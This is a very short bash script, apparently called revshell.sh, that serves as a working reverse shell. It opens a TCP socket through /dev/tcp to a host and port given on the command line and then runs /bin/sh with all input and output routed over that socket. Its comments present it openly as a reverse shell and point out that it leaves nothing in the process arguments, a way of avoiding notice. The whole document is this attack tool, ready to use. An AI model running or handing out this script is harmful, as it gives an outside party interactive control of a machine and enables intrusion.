# A reverse shell with nothing in argv: bash opens the socket itself, then a shell runs on it.
# usage: bash revshell.sh HOST PORT
exec 3<>"/dev/tcp/$1/$2"
exec /bin/sh <&3 >&3 2>&3
